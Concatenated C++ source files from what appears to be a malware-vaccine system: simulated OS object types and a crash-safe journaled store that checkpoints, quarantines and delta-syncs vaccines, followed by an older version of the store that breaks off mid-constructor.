// name is the paper's plural "Windows").
[[nodiscard]] Result<ResourceType> ResourceTypeFromName(std::string_view name);

// Figure 3's operation buckets; Table III additionally distinguishes
// existence checks (open that only tests presence).
enum class Operation : uint8_t {
  kCreate = 0,
  kOpen,    // read/open in Figure 3; existence check in Table III terms
  kRead,
  kWrite,
  kDelete,
  kOpCount,
};
inline constexpr size_t kNumOperations =
    static_cast<size_t>(Operation::kOpCount);

[[nodiscard]] std::string_view OperationName(Operation op);

// Short Table III-style symbol: C, E, R, W, D.
[[nodiscard]] char OperationSymbol(Operation op);

// Operation-deny bits used by injected vaccines (the paper adjusts the
// injected file's ACL "to disallow certain operation such as read and
// write").
[[nodiscard]] constexpr uint32_t DenyBit(Operation op) {
  return 1u << static_cast<uint32_t>(op);
}

// ---- objects ---------------------------------------------------------

struct FileObject {
  std::string path;
  std::string content;
  bool system_owned = false;  // owned by a super user (vaccine injection)
  uint32_t deny_mask = 0;     // DenyBit(op) bits
};

struct MutexObject {
  std::string name;
  uint32_t owner_pid = 0;
  bool system_owned = false;
};

struct ServiceObject {
  std::string name;
  std::string binary_path;
  bool running = false;
  bool system_owned = false;
};

struct WindowObject {
  std::string class_name;
  std::string title;
  uint32_t owner_pid = 0;
};

struct ProcessObject {
  uint32_t pid = 0;
  std::string image_name;  // e.g. "explorer.exe"
  bool system_owned = false;
  // Payload names written by WriteProcessMemory/CreateRemoteThread —
  // visible in traces as successful injection.
  std::vector<std::string> injected_payloads;
};

struct RegistryKeyObject {
  std::string path;  // full path, e.g. "HKLM\\Software\\...\\Run"
  std::map<std::string, std::string> values;
  bool system_owned = false;
  uint32_t deny_mask = 0;
};

}  // namespace autovac::os
