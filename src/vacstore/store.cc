#include "vacstore/store.h"

#include <fcntl.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstring>
#include <utility>

#include "support/binio.h"
#include "support/digest.h"
#include "support/json.h"
#include "support/strings.h"
#include "vaccine/json.h"
#include "vaccine/wire.h"

namespace autovac::vacstore {
namespace {

Status WriteAll(int fd, std::string_view bytes) {
  size_t written = 0;
  while (written < bytes.size()) {
    const ssize_t n =
        ::write(fd, bytes.data() + written, bytes.size() - written);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Internal(StrFormat("store write failed: %s",
                                        std::strerror(errno)));
    }
    written += static_cast<size_t>(n);
  }
  return Status::Ok();
}

// Reads a whole file; missing files are "" with *exists=false.
Result<std::string> ReadWholeFile(const std::string& path, bool* exists) {
  *exists = false;
  std::string text;
  const int fd = ::open(path.c_str(), O_RDONLY);
  if (fd < 0) {
    if (errno == ENOENT) return text;
    return Status::Internal(StrFormat("cannot open %s: %s", path.c_str(),
                                      std::strerror(errno)));
  }
  *exists = true;
  char buffer[1 << 16];
  while (true) {
    const ssize_t n = ::read(fd, buffer, sizeof(buffer));
    if (n < 0) {
      if (errno == EINTR) continue;
      const int err = errno;
      ::close(fd);
      return Status::Internal(
          StrFormat("read %s failed: %s", path.c_str(), std::strerror(err)));
    }
    if (n == 0) break;
    text.append(buffer, static_cast<size_t>(n));
  }
  ::close(fd);
  return text;
}

// Writes `image` to `path` via temp file + fsync + rename — the atomic
// replace both the checkpoint and the journal rotation rely on.
Status ReplaceFile(const std::string& path, const std::string& temp,
                   const std::string& image) {
  const int fd = ::open(temp.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) {
    return Status::Internal(StrFormat("cannot create %s: %s", temp.c_str(),
                                      std::strerror(errno)));
  }
  Status written = WriteAll(fd, image);
  if (written.ok() && ::fsync(fd) != 0) {
    written = Status::Internal(StrFormat("fsync %s failed: %s", temp.c_str(),
                                         std::strerror(errno)));
  }
  ::close(fd);
  if (!written.ok()) {
    ::unlink(temp.c_str());
    return written;
  }
  if (::rename(temp.c_str(), path.c_str()) != 0) {
    const int err = errno;
    ::unlink(temp.c_str());
    return Status::Internal(StrFormat("rename %s failed: %s", path.c_str(),
                                      std::strerror(err)));
  }
  return Status::Ok();
}

std::string CheckpointPath(const std::string& path) { return path + ".ckpt"; }

// `base_epoch` records where the journal's history starts: 0 for a full
// history, the checkpoint epoch after a rotation.
std::string HeaderLine(uint64_t base_epoch) {
  return StrFormat(
      "{\"type\":\"vacstore\",\"version\":%llu,\"base_epoch\":%llu}\n",
      static_cast<unsigned long long>(kStoreVersion),
      static_cast<unsigned long long>(base_epoch));
}

std::string AddLine(const StoreEntry& entry) {
  std::string line = StrFormat(
      "{\"type\":\"add\",\"digest\":\"%s\",\"epoch\":%llu,"
      "\"quarantined\":%s",
      entry.digest.c_str(), static_cast<unsigned long long>(entry.epoch),
      entry.quarantined ? "true" : "false");
  // Only a later quarantine moves change_epoch off the add epoch, so the
  // common case stays one field smaller.
  if (entry.change_epoch != entry.epoch) {
    line += StrFormat(",\"change_epoch\":%llu",
                      static_cast<unsigned long long>(entry.change_epoch));
  }
  if (entry.quarantined) {
    line += StrFormat(",\"reason\":\"%s\"",
                      JsonEscape(entry.quarantine_reason).c_str());
  }
  line += ",\"vaccine\":" + vaccine::VaccineToJson(entry.vaccine) + "}\n";
  return line;
}

// The batch atomicity point: adds become visible only once their commit
// record is on disk.
std::string CommitLine(uint64_t epoch) {
  return StrFormat("{\"type\":\"commit\",\"epoch\":%llu}\n",
                   static_cast<unsigned long long>(epoch));
}

// `epoch` is the feed epoch the retraction joined — what delta sync
// serves the tombstone under.
std::string QuarantineLine(std::string_view digest, std::string_view reason,
                           uint64_t epoch) {
  return StrFormat("{\"type\":\"quarantine\",\"digest\":\"%s\","
                   "\"reason\":\"%s\",\"epoch\":%llu}\n",
                   std::string(digest).c_str(), JsonEscape(reason).c_str(),
                   static_cast<unsigned long long>(epoch));
}

std::string CkptHeaderLine(uint64_t epoch, size_t entries,
                           size_t body_bytes) {
  return StrFormat(
      "{\"type\":\"vacstore-ckpt\",\"version\":%llu,\"epoch\":%llu,"
      "\"entries\":%llu,\"body_bytes\":%llu}\n",
      static_cast<unsigned long long>(kStoreVersion),
      static_cast<unsigned long long>(epoch),
      static_cast<unsigned long long>(entries),
      static_cast<unsigned long long>(body_bytes));
}

std::string CkptEndLine(const std::string& digest) {
  return StrFormat("{\"type\":\"ckpt-end\",\"digest\":\"%s\"}\n",
                   digest.c_str());
}

// ---------------------------------------------------------------------
// Checkpoint body encoding.
//
// The body between the JSON header line and the ckpt-end trailer is a
// flat binary image: length-prefixed strings and single-byte enums,
// little-endian (support/binio.h), vaccines via the shared wire codec
// (vaccine/wire.h) the vacd binary protocol also speaks. The trailer
// digest covers header + body, so the loader trusts the bytes after one
// whole-file hash instead of re-parsing (and re-hashing) one JSON
// document per vaccine — that is what makes checkpoint recovery several
// times cheaper than a journal replay of the same entry count.

void AppendCkptEntry(std::string& out, const StoreEntry& entry) {
  PutStr(out, entry.digest);
  PutU64(out, entry.epoch);
  PutU64(out, entry.change_epoch);
  PutU8(out, entry.quarantined ? 1 : 0);
  if (entry.quarantined) PutStr(out, entry.quarantine_reason);
  vaccine::EncodeVaccine(out, entry.vaccine);
}

bool DecodeCkptEntry(BinReader& reader, StoreEntry* entry,
                     std::string* error) {
  const auto fail = [error](const char* what) {
    *error = what;
    return false;
  };
  if (!reader.Str(&entry->digest)) return fail("truncated digest");
  if (!reader.U64(&entry->epoch)) return fail("truncated epoch");
  if (!reader.U64(&entry->change_epoch)) return fail("truncated change epoch");
  uint8_t quarantined;
  if (!reader.U8(&quarantined)) return fail("truncated quarantine flag");
  entry->quarantined = quarantined != 0;
  if (entry->quarantined && !reader.Str(&entry->quarantine_reason)) {
    return fail("truncated quarantine reason");
  }
  return vaccine::DecodeVaccine(reader, &entry->vaccine, error);
}

Result<StoreEntry> ParseAddRecord(const JsonValue& json, size_t index,
                                  bool verify_digest) {
  StoreEntry entry;
  AUTOVAC_ASSIGN_OR_RETURN(entry.digest, JsonFieldString(json, "digest"));
  AUTOVAC_ASSIGN_OR_RETURN(entry.epoch, JsonFieldUint64(json, "epoch"));
  entry.change_epoch = entry.epoch;
  if (json.Find("change_epoch") != nullptr) {
    AUTOVAC_ASSIGN_OR_RETURN(entry.change_epoch,
                             JsonFieldUint64(json, "change_epoch"));
  }
  AUTOVAC_ASSIGN_OR_RETURN(entry.quarantined,
                           JsonFieldBool(json, "quarantined"));
  if (entry.quarantined) {
    AUTOVAC_ASSIGN_OR_RETURN(entry.quarantine_reason,
                             JsonFieldString(json, "reason"));
  }
  const JsonValue* vaccine_json = json.Find("vaccine");
  if (vaccine_json == nullptr) {
    return Status::InvalidArgument(
        StrFormat("store record %zu has no vaccine", index));
  }
  AUTOVAC_ASSIGN_OR_RETURN(entry.vaccine,
                           vaccine::VaccineFromJson(*vaccine_json));
  if (verify_digest &&
      vaccine::VaccineDigest(entry.vaccine) != entry.digest) {
    return Status::InvalidArgument(
        StrFormat("store record %zu digest mismatch", index));
  }
  return entry;
}

struct SplitResult {
  std::vector<std::string_view> lines;
  bool tail_unterminated = false;
};

SplitResult SplitLines(const std::string& text) {
  SplitResult result;
  size_t pos = 0;
  while (pos < text.size()) {
    const size_t eol = text.find('\n', pos);
    if (eol == std::string::npos) {
      result.lines.emplace_back(text.data() + pos, text.size() - pos);
      result.tail_unterminated = true;
      break;
    }
    result.lines.emplace_back(text.data() + pos, eol - pos);
    pos = eol + 1;
  }
  return result;
}

}  // namespace

VaccineStore::~VaccineStore() {
  if (fd_ >= 0) ::close(fd_);
}

VaccineStore::VaccineStore(VaccineStore&& other) noexcept
    : entries_(std::move(other.entries_)),
      index_of_digest_(std::move(other.index_of_digest_)),
      epoch_(other.epoch_),
      conflicts_(other.conflicts_),
      benign_identifiers_(std::move(other.benign_identifiers_)),
      path_(std::move(other.path_)),
      fd_(other.fd_),
      sync_(other.sync_),
      torn_tail_(other.torn_tail_),
      dropped_uncommitted_(other.dropped_uncommitted_),
      checkpoint_loaded_(other.checkpoint_loaded_),
      checkpoint_fallback_(other.checkpoint_fallback_),
      replayed_records_(other.replayed_records_),
      checkpoint_epoch_(other.checkpoint_epoch_),
      crash_after_bytes_(other.crash_after_bytes_) {
  other.fd_ = -1;
}

VaccineStore& VaccineStore::operator=(VaccineStore&& other) noexcept {
  if (this != &other) {
    if (fd_ >= 0) ::close(fd_);
    entries_ = std::move(other.entries_);
    index_of_digest_ = std::move(other.index_of_digest_);
    epoch_ = other.epoch_;
    conflicts_ = other.conflicts_;
    benign_identifiers_ = std::move(other.benign_identifiers_);
    path_ = std::move(other.path_);
    fd_ = other.fd_;
    sync_ = other.sync_;
    torn_tail_ = other.torn_tail_;
    dropped_uncommitted_ = other.dropped_uncommitted_;
    checkpoint_loaded_ = other.checkpoint_loaded_;
    checkpoint_fallback_ = other.checkpoint_fallback_;
    replayed_records_ = other.replayed_records_;
    checkpoint_epoch_ = other.checkpoint_epoch_;
    crash_after_bytes_ = other.crash_after_bytes_;
    other.fd_ = -1;
  }
  return *this;
}

std::optional<VaccineStore::CheckpointImage> VaccineStore::LoadCheckpoint(
    const std::string& ckpt_path, bool* present, std::string* error) {
  error->clear();
  Result<std::string> read = ReadWholeFile(ckpt_path, present);
  if (!read.ok()) {
    *error = read.status().ToString();
    return std::nullopt;
  }
  if (!*present) {
    *error = "no checkpoint file";
    return std::nullopt;
  }
  const std::string& text = read.value();
  if (text.empty() || text.back() != '\n') {
    *error = "checkpoint is torn (no trailer)";
    return std::nullopt;
  }
  // Layout: JSON header line | binary body (body_bytes) | ckpt-end line.
  // The body is binary, so the trailer is located from the header's
  // body_bytes count, never by scanning for newlines.
  const size_t header_end = text.find('\n');
  if (header_end == std::string::npos) {
    *error = "checkpoint has no header";
    return std::nullopt;
  }
  auto header = ParseJson(std::string_view(text.data(), header_end));
  if (!header.ok()) {
    *error = "checkpoint header is corrupt";
    return std::nullopt;
  }
  auto header_type = JsonFieldString(header.value(), "type");
  if (!header_type.ok() || header_type.value() != "vacstore-ckpt") {
    *error = "first checkpoint record is not a vacstore-ckpt header";
    return std::nullopt;
  }
  auto version = JsonFieldUint64(header.value(), "version");
  if (!version.ok() || version.value() != kStoreVersion) {
    *error = "unsupported checkpoint version";
    return std::nullopt;
  }
  auto epoch = JsonFieldUint64(header.value(), "epoch");
  auto entry_count = JsonFieldUint64(header.value(), "entries");
  auto body_bytes = JsonFieldUint64(header.value(), "body_bytes");
  if (!epoch.ok() || !entry_count.ok() || !body_bytes.ok()) {
    *error = "checkpoint header is missing fields";
    return std::nullopt;
  }
  const size_t body_start = header_end + 1;
  if (body_bytes.value() > text.size() ||
      body_start + body_bytes.value() >= text.size()) {
    *error = "checkpoint is torn (body truncated)";
    return std::nullopt;
  }
  const size_t trailer_start = body_start + body_bytes.value();
  const std::string_view trailer(text.data() + trailer_start,
                                 text.size() - trailer_start - 1);
  auto trailer_json = ParseJson(trailer);
  if (!trailer_json.ok()) {
    *error = "checkpoint trailer is corrupt";
    return std::nullopt;
  }
  auto trailer_type = JsonFieldString(trailer_json.value(), "type");
  if (!trailer_type.ok() || trailer_type.value() != "ckpt-end") {
    *error = "checkpoint trailer is not ckpt-end";
    return std::nullopt;
  }
  auto trailer_digest = JsonFieldString(trailer_json.value(), "digest");
  if (!trailer_digest.ok()) {
    *error = "checkpoint trailer has no digest";
    return std::nullopt;
  }
  // One digest over header + body vouches for every record at once —
  // that, plus skipping JSON entirely, is what makes checkpoint
  // recovery cheaper than a journal replay.
  if (HexDigest128(std::string_view(text.data(), trailer_start)) !=
      trailer_digest.value()) {
    *error = "checkpoint digest mismatch";
    return std::nullopt;
  }

  CheckpointImage image;
  image.epoch = epoch.value();
  BinReader reader{
      std::string_view(text.data() + body_start, body_bytes.value()), 0};
  image.entries.reserve(entry_count.value());
  for (uint64_t i = 0; i < entry_count.value(); ++i) {
    StoreEntry entry;
    std::string decode_error;
    if (!DecodeCkptEntry(reader, &entry, &decode_error)) {
      *error = StrFormat("checkpoint record %llu: %s",
                         static_cast<unsigned long long>(i),
                         decode_error.c_str());
      return std::nullopt;
    }
    image.entries.push_back(std::move(entry));
  }
  if (reader.pos != reader.data.size()) {
    *error = "checkpoint body has trailing garbage";
    return std::nullopt;
  }
  return image;
}

Result<VaccineStore> VaccineStore::Open(const std::string& path) {
  VaccineStore store;
  store.path_ = path;

  bool journal_exists = false;
  AUTOVAC_ASSIGN_OR_RETURN(const std::string text,
                           ReadWholeFile(path, &journal_exists));

  bool ckpt_present = false;
  std::string ckpt_error;
  std::optional<CheckpointImage> ckpt =
      LoadCheckpoint(CheckpointPath(path), &ckpt_present, &ckpt_error);

  const SplitResult split = SplitLines(text);
  uint64_t base_epoch = 0;
  bool needs_rewrite = false;
  if (split.lines.size() == 1 && split.tail_unterminated) {
    // The header itself is torn: nothing usable follows.
    store.torn_tail_ = true;
    needs_rewrite = true;
  } else if (!split.lines.empty()) {
    auto header = ParseJson(split.lines[0]);
    if (!header.ok()) {
      return Status::InvalidArgument("store header is corrupt");
    }
    AUTOVAC_ASSIGN_OR_RETURN(const std::string type,
                             JsonFieldString(header.value(), "type"));
    if (type != "vacstore") {
      return Status::InvalidArgument(
          "first store record is not a vacstore header");
    }
    AUTOVAC_ASSIGN_OR_RETURN(const uint64_t version,
                             JsonFieldUint64(header.value(), "version"));
    if (version != kStoreVersion) {
      return Status::InvalidArgument(
          StrFormat("unsupported store version %llu",
                    static_cast<unsigned long long>(version)));
    }
    if (header.value().Find("base_epoch") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(base_epoch,
                               JsonFieldUint64(header.value(), "base_epoch"));
    }
  }

  if (ckpt.has_value()) {
    if (base_epoch > ckpt->epoch) {
      return Status::Internal(StrFormat(
          "store %s: journal was rotated at epoch %llu but the checkpoint "
          "holds epoch %llu — the delta between them is lost",
          path.c_str(), static_cast<unsigned long long>(base_epoch),
          static_cast<unsigned long long>(ckpt->epoch)));
    }
    store.checkpoint_loaded_ = true;
    store.entries_ = std::move(ckpt->entries);
    store.epoch_ = ckpt->epoch;
    store.checkpoint_epoch_ = ckpt->epoch;
    store.IndexEntries();
    // A journal whose base predates the checkpoint means the crash
    // landed between the checkpoint rename and the rotation; the replay
    // below dedups the overlap and a fresh rotation heals the file.
    if (base_epoch != ckpt->epoch) needs_rewrite = true;
  } else {
    if (base_epoch > 0) {
      // The journal is only a suffix and the checkpoint it depends on is
      // gone: refusing is the only honest answer.
      return Status::Internal(StrFormat(
          "store %s: journal was rotated at epoch %llu but its checkpoint "
          "is unusable (%s) — cannot reconstruct the pre-rotation history",
          path.c_str(), static_cast<unsigned long long>(base_epoch),
          ckpt_error.c_str()));
    }
    if (ckpt_present) {
      // Torn checkpoint, full journal: fall back to a full replay.
      store.checkpoint_fallback_ = true;
      needs_rewrite = true;
    }
  }

  // Replay the journal records after the header. Adds are provisional
  // until their batch's commit record: a crash mid-push leaves adds with
  // no commit, and reload drops them — pre-push or post-push, never
  // partial.
  std::vector<StoreEntry> provisional;
  for (size_t i = 1; i < split.lines.size(); ++i) {
    const bool is_tail = (i + 1 == split.lines.size());
    auto parsed = ParseJson(split.lines[i]);
    if (!parsed.ok() || (is_tail && split.tail_unterminated)) {
      if (is_tail) {
        store.torn_tail_ = true;
        needs_rewrite = true;
        break;
      }
      return Status::InvalidArgument(
          StrFormat("store record %zu is corrupt (%s)", i,
                    parsed.status().message().c_str()));
    }
    AUTOVAC_ASSIGN_OR_RETURN(const std::string type,
                             JsonFieldString(parsed.value(), "type"));
    ++store.replayed_records_;
    if (type == "add") {
      AUTOVAC_ASSIGN_OR_RETURN(
          StoreEntry entry,
          ParseAddRecord(parsed.value(), i, /*verify_digest=*/true));
      provisional.push_back(std::move(entry));
    } else if (type == "commit") {
      AUTOVAC_ASSIGN_OR_RETURN(const uint64_t epoch,
                               JsonFieldUint64(parsed.value(), "epoch"));
      for (StoreEntry& entry : provisional) {
        auto [it, inserted] = store.index_of_digest_.emplace(
            entry.digest, store.entries_.size());
        if (!inserted) {
          needs_rewrite = true;  // redundant add; first one wins
          continue;
        }
        store.entries_.push_back(std::move(entry));
      }
      provisional.clear();
      store.epoch_ = std::max(store.epoch_, epoch);
    } else if (type == "quarantine") {
      AUTOVAC_ASSIGN_OR_RETURN(const std::string digest,
                               JsonFieldString(parsed.value(), "digest"));
      AUTOVAC_ASSIGN_OR_RETURN(const std::string reason,
                               JsonFieldString(parsed.value(), "reason"));
      AUTOVAC_ASSIGN_OR_RETURN(const uint64_t q_epoch,
                               JsonFieldUint64(parsed.value(), "epoch"));
      auto it = store.index_of_digest_.find(digest);
      if (it == store.index_of_digest_.end()) {
        return Status::InvalidArgument(
            StrFormat("store record %zu quarantines unknown digest %s", i,
                      digest.c_str()));
      }
      StoreEntry& entry = store.entries_[it->second];
      entry.quarantined = true;
      entry.quarantine_reason = reason;
      entry.change_epoch = q_epoch;
      // A quarantine record is its own atomicity unit and advances the
      // feed epoch just like a committed push batch.
      store.epoch_ = std::max(store.epoch_, q_epoch);
      needs_rewrite = true;  // fold the record into the add line
    } else {
      return Status::InvalidArgument(
          StrFormat("store record %zu has unknown type '%s'", i,
                    type.c_str()));
    }
  }
  if (!provisional.empty()) {
    store.dropped_uncommitted_ = true;
    needs_rewrite = true;
  }

  if (needs_rewrite || text.empty()) {
    if (store.checkpoint_loaded_) {
      // Re-checkpointing captures the replayed suffix (and any folded
      // quarantines) and rotates the journal in one crash-safe motion.
      AUTOVAC_RETURN_IF_ERROR(store.Checkpoint());
    } else {
      AUTOVAC_RETURN_IF_ERROR(store.Compact());
      if (store.checkpoint_fallback_) {
        // The full replay is durable again; drop the unusable checkpoint
        // so later opens stop tripping over it.
        (void)::unlink(CheckpointPath(path).c_str());
      }
    }
  } else {
    store.fd_ = ::open(path.c_str(), O_WRONLY | O_APPEND);
    if (store.fd_ < 0) {
      return Status::Internal(StrFormat("cannot append to store %s: %s",
                                        path.c_str(), std::strerror(errno)));
    }
  }
  return store;
}

Status VaccineStore::Checkpoint() {
  if (path_.empty()) return Status::Ok();

  std::string body;
  for (const StoreEntry& entry : entries_) AppendCkptEntry(body, entry);
  std::string image = CkptHeaderLine(epoch_, entries_.size(), body.size());
  image += body;
  image += CkptEndLine(HexDigest128(image));
  AUTOVAC_RETURN_IF_ERROR(ReplaceFile(CheckpointPath(path_),
                                      CheckpointPath(path_) + ".tmp", image));

  // Rotate the journal only once the checkpoint rename is durable: a
  // crash before this point leaves the full journal plus (maybe) a new
  // checkpoint, both of which reload handles.
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
  AUTOVAC_RETURN_IF_ERROR(
      ReplaceFile(path_, path_ + ".rotate", HeaderLine(epoch_)));
  fd_ = ::open(path_.c_str(), O_WRONLY | O_APPEND);
  if (fd_ < 0) {
    return Status::Internal(StrFormat("cannot reopen store %s: %s",
                                      path_.c_str(), std::strerror(errno)));
  }
  checkpoint_epoch_ = epoch_;
  return Status::Ok();
}

Status VaccineStore::Compact() {
  if (path_.empty()) return Status::Ok();
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
  std::string image = HeaderLine(0);
  for (const StoreEntry& entry : entries_) image += AddLine(entry);
  // One commit covers the whole rewritten history; per-entry epochs are
  // preserved in the add lines.
  if (!entries_.empty()) image += CommitLine(epoch_);
  AUTOVAC_RETURN_IF_ERROR(ReplaceFile(path_, path_ + ".compact", image));
  fd_ = ::open(path_.c_str(), O_WRONLY | O_APPEND);
  if (fd_ < 0) {
    return Status::Internal(StrFormat("cannot reopen store %s: %s",
                                      path_.c_str(), std::strerror(errno)));
  }
  return Status::Ok();
}

void VaccineStore::IndexEntries() {
  index_of_digest_.clear();
  index_of_digest_.reserve(entries_.size());
  for (size_t i = 0; i < entries_.size(); ++i) {
    index_of_digest_.emplace(entries_[i].digest, i);
  }
}

void VaccineStore::SetConflictIndex(
    const analysis::ExclusivenessIndex* index) {
  conflicts_ = index;
  benign_identifiers_ =
      index != nullptr ? index->Identifiers() : std::vector<std::string>();
}

std::optional<std::string> VaccineStore::ConflictReason(
    const vaccine::Vaccine& vaccine) const {
  if (conflicts_ == nullptr) return std::nullopt;
  if (vaccine.identifier_kind == analysis::IdentifierClass::kPartialStatic) {
    for (const std::string& identifier : benign_identifiers_) {
      if (vaccine.pattern.Matches(identifier)) {
        return StrFormat("pattern collides with benign identifier '%s'",
                         identifier.c_str());
      }
    }
    return std::nullopt;
  }
  if (!conflicts_->IsExclusive(vaccine.identifier)) {
    return StrFormat("identifier '%s' is used by benign software",
                     vaccine.identifier.c_str());
  }
  return std::nullopt;
}

Status VaccineStore::AppendBytes(const std::string& bytes) {
  if (fd_ < 0) return Status::Ok();  // in-memory store
  if (crash_after_bytes_ >= 0) {
    if (static_cast<int64_t>(bytes.size()) >= crash_after_bytes_) {
      // The partial prefix lands (page cache survives a process kill),
      // then the process dies exactly here — the injected fault point.
      (void)WriteAll(fd_, std::string_view(bytes).substr(
                              0, static_cast<size_t>(crash_after_bytes_)));
      (void)::raise(SIGKILL);
    }
    crash_after_bytes_ -= static_cast<int64_t>(bytes.size());
  }
  return WriteAll(fd_, bytes);
}

Status VaccineStore::SyncNow() {
  if (fd_ < 0 || !sync_) return Status::Ok();
  if (::fsync(fd_) != 0) {
    return Status::Internal(StrFormat("store fsync failed: %s",
                                      std::strerror(errno)));
  }
  return Status::Ok();
}

Status VaccineStore::Flush() {
  if (fd_ < 0) return Status::Ok();
  if (::fsync(fd_) != 0) {
    return Status::Internal(StrFormat("store fsync failed: %s",
                                      std::strerror(errno)));
  }
  return Status::Ok();
}

Result<PushStats> VaccineStore::Push(
    const std::vector<vaccine::Vaccine>& vaccines) {
  PushStats stats;
  // The batch joins one epoch, assigned only if something new arrives.
  const uint64_t batch_epoch = epoch_ + 1;
  std::vector<StoreEntry> fresh;
  std::unordered_map<std::string, size_t> fresh_digests;
  for (const vaccine::Vaccine& vaccine : vaccines) {
    std::string digest = vaccine::VaccineDigest(vaccine);
    if (index_of_digest_.count(digest) != 0 ||
        fresh_digests.count(digest) != 0) {
      ++stats.duplicates;
      continue;
    }
    StoreEntry entry;
    entry.vaccine = vaccine;
    entry.digest = std::move(digest);
    entry.epoch = batch_epoch;
    entry.change_epoch = batch_epoch;
    if (std::optional<std::string> reason = ConflictReason(vaccine);
        reason.has_value()) {
      entry.quarantined = true;
      entry.quarantine_reason = std::move(*reason);
      ++stats.quarantined;
    }
    fresh_digests.emplace(entry.digest, fresh.size());
    fresh.push_back(std::move(entry));
  }
  if (!fresh.empty()) {
    // Adds then commit in one buffered append: the commit record is the
    // batch's atomicity point, and one fsync covers the whole batch.
    std::string batch;
    for (const StoreEntry& entry : fresh) batch += AddLine(entry);
    batch += CommitLine(batch_epoch);
    AUTOVAC_RETURN_IF_ERROR(AppendBytes(batch));
    for (StoreEntry& entry : fresh) {
      index_of_digest_.emplace(entry.digest, entries_.size());
      entries_.push_back(std::move(entry));
    }
    epoch_ = batch_epoch;
    AUTOVAC_RETURN_IF_ERROR(SyncNow());
  }
  stats.added = fresh.size();
  stats.epoch = epoch_;
  return stats;
}

Status VaccineStore::Quarantine(std::string_view digest,
                                std::string_view reason) {
  const auto it = index_of_digest_.find(std::string(digest));
  if (it == index_of_digest_.end()) {
    return Status::NotFound(StrFormat("no vaccine with digest %s",
                                      std::string(digest).c_str()));
  }
  StoreEntry& entry = entries_[it->second];
  if (entry.quarantined) return Status::Ok();
  // The retraction joins its own feed epoch: a delta-syncing client that
  // already pulled the add learns of it as a tombstone.
  const uint64_t q_epoch = epoch_ + 1;
  AUTOVAC_RETURN_IF_ERROR(AppendBytes(QuarantineLine(digest, reason, q_epoch)));
  entry.quarantined = true;
  entry.quarantine_reason = std::string(reason);
  entry.change_epoch = q_epoch;
  epoch_ = q_epoch;
  return SyncNow();
}

Result<size_t> VaccineStore::RescanConflicts() {
  size_t retracted = 0;
  for (StoreEntry& entry : entries_) {
    if (entry.quarantined) continue;
    std::optional<std::string> reason = ConflictReason(entry.vaccine);
    if (!reason.has_value()) continue;
    // One epoch per retraction keeps "a feed epoch is either one push
    // batch or one tombstone" — the invariant pull paging leans on.
    const uint64_t q_epoch = epoch_ + 1;
    AUTOVAC_RETURN_IF_ERROR(
        AppendBytes(QuarantineLine(entry.digest, *reason, q_epoch)));
    entry.quarantined = true;
    entry.quarantine_reason = *reason;
    entry.change_epoch = q_epoch;
    epoch_ = q_epoch;
    ++retracted;
  }
  if (retracted > 0) AUTOVAC_RETURN_IF_ERROR(SyncNow());
  return retracted;
}

std::vector<const StoreEntry*> VaccineStore::Since(uint64_t since) const {
  std::vector<const StoreEntry*> delta;
  for (const StoreEntry& entry : entries_) {
    if (!entry.quarantined) {
      if (entry.change_epoch > since) delta.push_back(&entry);
    } else if (entry.change_epoch > since && entry.epoch <= since) {
      // Tombstone: the client may hold this vaccine from a pull at or
      // after its add epoch; anyone synced before the add never saw it
      // and needs nothing.
      delta.push_back(&entry);
    }
  }
  // Change-epoch order keeps "epoch of the last item received" an exact
  // resume cursor; stability keeps insertion order inside a push batch,
  // which is what makes a since=0 delta byte-identical to the old
  // feed-order full pull.
  std::stable_sort(delta.begin(), delta.end(),
                   [](const StoreEntry* a, const StoreEntry* b) {
                     return a->change_epoch < b->change_epoch;
                   });
  return delta;
}

const StoreEntry* VaccineStore::FindDigest(std::string_view digest) const {
  const auto it = index_of_digest_.find(std::string(digest));
  if (it == index_of_digest_.end()) return nullptr;
  return &entries_[it->second];
}

size_t VaccineStore::served_count() const {
  size_t count = 0;
  for (const StoreEntry& entry : entries_) {
    if (!entry.quarantined) ++count;
  }
  return count;
}

size_t VaccineStore::quarantined_count() const {
  return entries_.size() - served_count();
}

Result<PushStats> IngestCampaignReport(
    VaccineStore& store, const vaccine::CampaignReport& report) {
  std::vector<vaccine::Vaccine> batch;
  for (const vaccine::SampleReport& sample : report.reports) {
    batch.insert(batch.end(), sample.vaccines.begin(),
                 sample.vaccines.end());
  }
  if (batch.empty()) {
    PushStats stats;
    stats.epoch = store.epoch();
    return stats;
  }
  return store.Push(batch);
}

}  // namespace autovac::vacstore
