#include "vacstore/store.h"

#include <fcntl.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <unordered_map>
#include <utility>

#include "support/json.h"
#include "support/strings.h"
#include "vaccine/json.h"

namespace autovac::vacstore {
namespace {

Status WriteAll(int fd, std::string_view bytes) {
  size_t written = 0;
  while (written < bytes.size()) {
    const ssize_t n =
        ::write(fd, bytes.data() + written, bytes.size() - written);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Internal(StrFormat("store write failed: %s",
                                        std::strerror(errno)));
    }
    written += static_cast<size_t>(n);
  }
  return Status::Ok();
}

std::string HeaderLine() {
  return StrFormat("{\"type\":\"vacstore\",\"version\":%llu}\n",
                   static_cast<unsigned long long>(kStoreVersion));
}

std::string AddLine(const StoreEntry& entry) {
  std::string line = StrFormat(
      "{\"type\":\"add\",\"digest\":\"%s\",\"epoch\":%llu,"
      "\"quarantined\":%s",
      entry.digest.c_str(), static_cast<unsigned long long>(entry.epoch),
      entry.quarantined ? "true" : "false");
  if (entry.quarantined) {
    line += StrFormat(",\"reason\":\"%s\"",
                      JsonEscape(entry.quarantine_reason).c_str());
  }
  line += ",\"vaccine\":" + vaccine::VaccineToJson(entry.vaccine) + "}\n";
  return line;
}

std::string QuarantineLine(std::string_view digest, std::string_view reason) {
  return StrFormat("{\"type\":\"quarantine\",\"digest\":\"%s\","
                   "\"reason\":\"%s\"}\n",
                   std::string(digest).c_str(),
                   JsonEscape(reason).c_str());
}

}  // namespace

VaccineStore::~VaccineStore() {
  if (fd_ >= 0) ::close(fd_);
}

VaccineStore::VaccineStore(VaccineStore&& other) noexcept
    : entries_(std::move(other.entries_)),
      epoch_(other.epoch_),
